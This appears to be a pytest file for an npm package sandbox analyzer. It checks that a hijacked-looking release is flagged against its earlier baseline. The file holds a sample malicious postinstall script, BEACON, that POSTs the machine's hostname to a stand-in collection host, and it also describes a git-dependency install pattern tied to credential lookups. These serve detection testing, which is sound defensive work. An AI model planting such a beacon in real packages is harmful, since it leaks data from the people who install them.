"""Takeover detection end to end: an earlier release and a crafted next one, served by a
local registry, analysed in the real sandbox with `--baseline auto`."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from analyzer.analysis import Analyzer
from analyzer.cli import main
from analyzer.feeds.interface import Batch
from analyzer.fetch.interface import Target
from analyzer.models import Ecosystem
from analyzer.store.database import Database
from analyzer.store.releases import record_batch, start_cursor
from analyzer.store.results import save_result
from analyzer.store.schema import Job
from tests.fetch.conftest import FakeRegistry, registry  # noqa: F401 - the fixture
from tests.packages import build_npm_tgz
from tests.store.builders import planned

pytestmark = pytest.mark.sandbox

INDEX = "module.exports = (text) => String(text).toUpperCase();\n"
# The hijacked release's postinstall: a lookup and a POST to a host the package never used.
BEACON = """const http = require("http");
const req = http.request({host: "collect.webhook-sink.example", path: "/c", method: "POST"},
                         (res) => res.resume());
req.on("error", () => {});
req.setTimeout(3000, () => req.destroy());
req.end(JSON.stringify({host: require("os").hostname()}));
"""


def publish(registry: FakeRegistry, tmp_path: Path, name: str, version: str,  # noqa: F811
            files: dict[str, str], **manifest: Any) -> None:
    source = tmp_path / f"{name}-{version}"
    source.mkdir()
    (source / "package.json").write_text(json.dumps(
        {"name": name, "version": version, "main": "index.js", **manifest}))
    for path, text in files.items():
        (source / path).write_text(text)
    registry.add_npm(name, version, build_npm_tgz(source, tmp_path))


def analyze(capsys: pytest.CaptureFixture[str], registry: FakeRegistry,  # noqa: F811
            tmp_path: Path, target: str) -> tuple[dict[str, Any], str]:
    report = tmp_path / f"{target.replace(':', '-').replace('@', '-')}.html"
    assert main(["analyze", target, "--baseline", "auto", "--json", "--html", str(report),
                 "--npm-registry-url", registry.urls.npm]) == 0
    captured = capsys.readouterr()
    return json.loads(captured.out), report.read_text()


@pytest.fixture(autouse=True)
def no_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No store holds the baseline: it is analysed first."""
    monkeypatch.setenv("PKGSANDBOX_DB", f"sqlite:///{tmp_path}/absent.db")


def test_a_release_adding_a_postinstall_that_calls_out_is_flagged_against_its_baseline(
        capsys: pytest.CaptureFixture[str], registry: FakeRegistry,  # noqa: F811
        tmp_path: Path) -> None:
    publish(registry, tmp_path, "upper-text", "1.4.0", {"index.js": INDEX})
    publish(registry, tmp_path, "upper-text", "1.4.1", {"index.js": INDEX, "setup.js": BEACON},
            scripts={"postinstall": "node setup.js"})
    result, page = analyze(capsys, registry, tmp_path, "npm:upper-text@1.4.1")

    assert result["verdict"] in ("suspicious", "malicious")
    rules = {f["rule"] for f in result["findings"]}
    assert {"changed-install-network", "changed-install-script-added"} <= rules
    changes = result["changes"]
    assert changes["baseline"] == "1.4.0"
    assert changes["notes"][0] == "the baseline 1.4.0 was analysed first"
    seen = {(c["kind"], c["subject"], c["phase"]) for c in changes["changes"]}
    assert ("destination-added", "collect.webhook-sink.example", "install") in seen
    assert ("script-added", "postinstall", None) in seen
    assert ("file-added", "setup.js", None) in seen
    assert "Changed since 1.4.0" in page and "collect.webhook-sink.example" in page


def test_an_ordinary_release_adding_a_registry_dependency_stays_benign(
        capsys: pytest.CaptureFixture[str], registry: FakeRegistry,  # noqa: F811
        tmp_path: Path) -> None:
    publish(registry, tmp_path, "pad-text", "2.0.0", {"index.js": INDEX})
    publish(registry, tmp_path, "pad-helper", "1.0.0", {"index.js": "module.exports = 1;\n"})
    addition = "module.exports.pad = require('pad-helper');\n"
    publish(registry, tmp_path, "pad-text", "2.1.0", {"index.js": INDEX + addition},
            dependencies={"pad-helper": "^1.0.0"})
    result, page = analyze(capsys, registry, tmp_path, "npm:pad-text")  # the latest: 2.1.0

    assert result["package"]["version"] == "2.1.0"
    assert result["verdict"] == "benign", result["findings"]
    kinds = {(c["kind"], c["subject"], c["detail"]) for c in result["changes"]["changes"]}
    assert ("dependency-added", "pad-helper", "registry") in kinds
    assert ("file-grown", "index.js", f"+{len(addition)} bytes") in kinds
    assert not [f for f in result["findings"] if f["rule"].startswith("changed-")]
    assert "Changed since 2.0.0" in page


def test_a_previous_release_that_cannot_be_fetched_leaves_a_note_not_an_error(
        capsys: pytest.CaptureFixture[str], registry: FakeRegistry,  # noqa: F811
        tmp_path: Path) -> None:
    publish(registry, tmp_path, "gone-text", "0.1.0", {"index.js": INDEX})
    publish(registry, tmp_path, "gone-text", "0.2.0", {"index.js": INDEX})
    registry.status["/npm/gone-text/-/gone-text-0.1.0.tgz"] = 404  # unpublished file
    result, page = analyze(capsys, registry, tmp_path, "npm:gone-text@0.2.0")
    assert result["changes"] is None and result["verdict"] == "benign"
    assert any(n.startswith("the baseline 0.1.0 could not be fetched: ") for n in result["notes"])
    assert 'id="changes"' not in page


def test_a_baseline_in_the_store_is_not_analysed_again(
        capsys: pytest.CaptureFixture[str], registry: FakeRegistry,  # noqa: F811
        tmp_path: Path) -> None:
    publish(registry, tmp_path, "kept-text", "3.0.0", {"index.js": INDEX})
    publish(registry, tmp_path, "kept-text", "3.0.1", {"index.js": INDEX, "setup.js": BEACON},
            scripts={"postinstall": "node setup.js"})
    url = f"sqlite:///{tmp_path}/store.db"
    db = Database.open(url)
    earlier = Analyzer(urls=registry.urls).analyze(Target(Ecosystem.NPM, "kept-text", "3.0.0"))
    cursor = start_cursor(db, "npm", "0", None, now=1.0)
    record_batch(db, "npm", cursor, Batch((), "1", True),
                 [planned("kept-text", "3.0.0", Ecosystem.NPM)], 3, 1.0)
    with db.transaction() as session:
        job = session.query(Job).one()
        save_result(session, job.id, job.version_id, earlier, 2.0)
    db.close()
    downloads = [hit for hit in registry.hits if hit.endswith("kept-text-3.0.0.tgz")]

    assert main(["analyze", "npm:kept-text@3.0.1", "--baseline", "auto", "--db", url, "--json",
                 "--npm-registry-url", registry.urls.npm]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result["changes"]["notes"][0] == "the baseline 3.0.0 was taken from the store"
    assert ("script-added", "postinstall") in {
        (c["kind"], c["subject"]) for c in result["changes"]["changes"]}
    assert "changed-install-network" in {f["rule"] for f in result["findings"]}
    # 3.0.0 was downloaded once, for the stored analysis; not again for the baseline.
    assert [hit for hit in registry.hits if hit.endswith("kept-text-3.0.0.tgz")] == downloads


def test_a_release_adding_a_git_dependency_and_a_bun_prepare_is_flagged(
        capsys: pytest.CaptureFixture[str], registry: FakeRegistry,  # noqa: F811
        tmp_path: Path) -> None:
    # TanStack, May 2026: an optionalDependencies git ref and a `prepare` started with bun.
    # `prepare` does not run from a registry tarball; the git ref makes npm call github.com
    # at install (git's own ~/.netrc lookup then also fires the credential rules: malicious).
    publish(registry, tmp_path, "query-text", "5.1.0", {"index.js": INDEX},
            scripts={"prepare": "tsc"})
    publish(registry, tmp_path, "query-text", "5.1.1", {"index.js": INDEX},
            scripts={"prepare": "bun run ./scripts/setup.ts"},
            optionalDependencies={"query-text-tools": "github:someone/query-tools#a1b2c3d"})
    result, page = analyze(capsys, registry, tmp_path, "npm:query-text@5.1.1")
    assert result["verdict"] in ("suspicious", "malicious"), result["findings"]
    assert {"changed-dependency-added-url", "changed-prepare-runs-other-program",
            "changed-install-network"} <= {f["rule"] for f in result["findings"]}
    assert ("dependency-added", "query-text-tools", "git") in {
        (c["kind"], c["subject"], c["detail"]) for c in result["changes"]["changes"]}
    assert "github:someone/query-tools#a1b2c3d" in page
